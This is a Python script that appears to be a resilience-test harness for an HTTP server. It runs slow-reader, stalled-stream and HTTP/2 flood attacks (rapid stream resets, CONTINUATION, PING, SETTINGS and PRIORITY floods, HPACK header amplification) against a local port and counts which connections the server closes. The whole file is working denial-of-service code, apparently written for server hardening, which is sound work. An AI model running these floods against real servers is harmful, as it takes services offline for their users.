"""Clients that are slow or hostile, as one cheap process: `python3 attacks.py NAME PORT [CLIENTS]`.

It writes "ready" when the attack is under way, and at SIGTERM, as JSON, how many connections it has made and how many of them the server has
closed. What it sends is made once, and what it receives is not looked at, so that nearly all processor time of an attack is the server's.
"""

from __future__ import annotations

import json
import resource
import select
import signal
import socket
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import NoReturn

# HTTP/2, RFC 9113 §6.
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NO_WINDOW = b"\0\4\0\0\0\0"

LARGE, SLOW, SMALL = "/large.bin", "/slow.php", "/some.php"
SLOW_BYTES_S = 50 * 1024
TICK_S = 0.1
STREAMS = 100
# A flood's connections are closed by the server, and others follow at this rate.
FLOODS_S = 20
# Connections whose last byte is sent, and that the server leaves open for that long, have survived.
PATIENCE_S = 2.0
# Bytes of so many responses without a body, or of refusals.
ANSWERED = 10 * STREAMS


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def fields(*pairs: tuple[str, str]) -> bytes:
    """As HPACK has them, without its tables; all texts are shorter than 127 bytes or as long as two bytes say."""
    def text(value: str) -> bytes:
        size = len(value)
        prefix = bytes([size]) if size < 127 else bytes([127, (size - 127) % 128 + 128, (size - 127) // 128])
        return prefix + value.encode()
    return b"".join(b"\0" + text(name) + text(value) for name, value in pairs)


def head(path: str, method: str = "GET") -> bytes:
    return fields((":method", method), (":scheme", "http"), (":authority", "localhost"), (":path", path))


def requests(count: int, path: Callable[[int], str], then: Callable[[int], bytes] = lambda stream: b"", more: bytes = b"") -> bytes:
    """Requests on streams of their own; `then` follows each, `more` ends each head."""
    streams = range(1, 2 * count, 2)
    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, head(path(stream // 2)) + more) + then(stream) for stream in streams)


BEGIN = frame(HEADERS, END_STREAM, 1, head(SMALL))
# A new entry of HPACK's table; then each byte refers to it.
REPEATED = b"\x40\x01x\x00" + b"\xbe" * 12_000
# What a connection of a flood sends, behind the preface and SETTINGS.
FLOODS: dict[str, Callable[[], bytes]] = {
    "resets": lambda: requests(5_000, lambda _: SMALL, lambda stream: frame(RST_STREAM, 0, stream, (8).to_bytes(4))),
    # A window of more than 2^31 - 1 is an error of the stream, which the server has to reset.
    "server-resets": lambda: requests(5_000, lambda _: SMALL, lambda stream: frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")),
    "continuations": lambda: BEGIN + frame(CONTINUATION, 0, 1, fields(("x", "y" * 16_000))) * 60,
    "empty-continuations": lambda: BEGIN + frame(CONTINUATION, 0, 1) * 50_000,
    "pings": lambda: frame(PING, 0, 0, bytes(8)) * 50_000,
    "settings": lambda: frame(SETTINGS, 0, 0, NO_WINDOW) * 50_000,
    "priorities": lambda: frame(PRIORITY, 0, 1, bytes(5)) * 50_000,
    "empty-data": lambda: frame(HEADERS, END_HEADERS, 1, head(SMALL, "POST")) + frame(DATA, 0, 1) * 50_000,
    "repeated-fields": lambda: frame(HEADERS, END_HEADERS | END_STREAM, 1, head(SMALL) + REPEATED),
}
# The latter against a server that lets all of them hang.
STALLED = ("stalled-streams", "stalled-held")
ATTACKS = ("slow-readers", *STALLED, *FLOODS)


@dataclass
class Told:
    """What becomes of an attack's connections."""

    connections: int = 0
    closed: int = 0
    survived: int = 0

    def end(self, _number: int, _frame: object) -> NoReturn:
        print(json.dumps(vars(self)), flush=True)
        # What is open ends with the process.
        sys.exit(0)


@dataclass
class Connection:
    """One of the attack's, and what it has yet to send."""

    socket: socket.socket
    left: memoryview
    number: int = 0
    received: int = 0
    is_settled: bool = False
    sent_at: float = field(default_factory=time.monotonic)

    def send(self) -> bool:
        """As much as the server takes. Whether it still takes any."""
        try:
            while self.left:
                self.left = self.left[self.socket.send(self.left):]
                self.sent_at = time.monotonic()
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True

    def drain(self, buffer: bytearray) -> bool:
        """Takes what came. Whether the connection is still open."""
        try:
            while size := self.socket.recv_into(buffer):
                self.received += size
                # The server's settings come first.
                if not self.is_settled and not self.left:
                    self.is_settled = True
                    self.socket.send(frame(SETTINGS, ACK, 0))
        except BlockingIOError:
            return True
        except OSError:
            pass
        return False


def connect(port: int, number: int, receive: int = 0) -> socket.socket:
    """From an address of its own: there is one for each client."""
    one = socket.socket()
    if receive:
        # Before it connects: it also keeps the kernel from making the buffer larger.
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
    one.bind((f"127.1.{number // 250 % 250}.{number % 250 + 1}", 0))
    one.settimeout(20)
    one.connect(("127.0.0.1", port))
    one.setblocking(False)
    return one


def ready() -> None:
    print("ready", flush=True)


def slow_readers(port: int, clients: int, told: Told) -> NoReturn:
    """Each reads a large page at 50 KB/s, and then another."""
    request = f"GET {SLOW} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode()
    part = bytearray(int(SLOW_BYTES_S * TICK_S))

    def begin(number: int) -> socket.socket:
        told.connections += 1
        one = connect(port, number, 64 * 1024)
        one.send(request)
        return one

    readers, begun, due = [begin(number) for number in range(clients)], set[int](), time.monotonic()
    while True:
        for number, one in enumerate(readers):
            try:
                size = one.recv_into(part)
            except BlockingIOError:
                continue
            except OSError:
                size = 0
            if size:
                begun.add(number)
                continue
            told.closed += 1
            one.close()
            readers[number] = begin(number)
        if len(begun) == clients:
            ready()
            begun.add(-1)
        due = max(due + TICK_S, time.monotonic())
        time.sleep(max(0.0, due - time.monotonic()))


def stalled(port: int, clients: int, told: Told) -> NoReturn:
    """Each begins a hundred requests and gives no window for their responses. Who is cut off comes again, as often as the connections of a flood."""
    whole = memoryview(PREFACE + frame(SETTINGS, 0, 0, NO_WINDOW) + requests(STREAMS, lambda number: SMALL if number % 50 == 1 else LARGE))
    poll, buffer = select.epoll(), bytearray(1 << 16)
    open_: dict[int, Connection] = {}
    again = [(0.0, number) for number in range(clients)]
    waiting, is_ready = set(range(clients)), False
    while True:
        now = time.monotonic()
        while again and again[0][0] <= now:
            number = again.pop(0)[1]
            one = Connection(connect(port, number), whole, number)
            told.connections += 1
            open_[one.socket.fileno()] = one
            poll.register(one.socket, select.EPOLLIN | select.EPOLLOUT | select.EPOLLET)
        for which, _ in poll.poll(1 / FLOODS_S):
            one = open_[which]
            is_open = one.send() and one.drain(buffer)
            if not is_open or one.received >= ANSWERED:
                waiting.discard(one.number)
            if is_open:
                continue
            told.closed += 1
            del open_[which]
            one.socket.close()
            again.append((max(again[-1][0] if again else 0.0, time.monotonic()) + 1 / FLOODS_S, one.number))
        if not is_ready and not waiting:
            is_ready = True
            ready()


def flood(port: int, per_s: int, told: Told, whole: memoryview) -> NoReturn:
    """So many connections a second, each of which sends until the server closes it."""
    poll, buffer = select.epoll(), bytearray(1 << 16)
    open_: dict[int, Connection] = {}
    due, is_ready = time.monotonic(), False
    while True:
        if time.monotonic() >= due:
            # What could not be sent in time is not made up for.
            due = max(due + 1 / per_s, time.monotonic())
            one = Connection(connect(port, told.connections), whole)
            told.connections += 1
            open_[one.socket.fileno()] = one
            poll.register(one.socket, select.EPOLLIN | select.EPOLLOUT | select.EPOLLET)
        for which, _ in poll.poll(max(0.0, due - time.monotonic())):
            one = open_[which]
            takes = one.send()
            if not one.drain(buffer) or not takes:
                told.closed += 1
                del open_[which]
                one.socket.close()
        for which, one in list(open_.items()):
            if not one.left and time.monotonic() - one.sent_at > PATIENCE_S:
                told.survived += 1
                del open_[which]
                one.socket.close()
        if not is_ready and told.connections > per_s // 2:
            is_ready = True
            ready()


def main() -> NoReturn:
    name, port, clients = sys.argv[1], int(sys.argv[2]), int((sys.argv[3:] or ["0"])[0])
    told = Told()
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    signal.signal(signal.SIGTERM, told.end)
    if name == "slow-readers":
        slow_readers(port, clients or 200, told)
    if name in STALLED:
        stalled(port, clients or 1000, told)
    flood(port, clients or FLOODS_S, told, memoryview(PREFACE + frame(SETTINGS, 0, 0) + FLOODS[name]()))


if __name__ == "__main__":
    main()
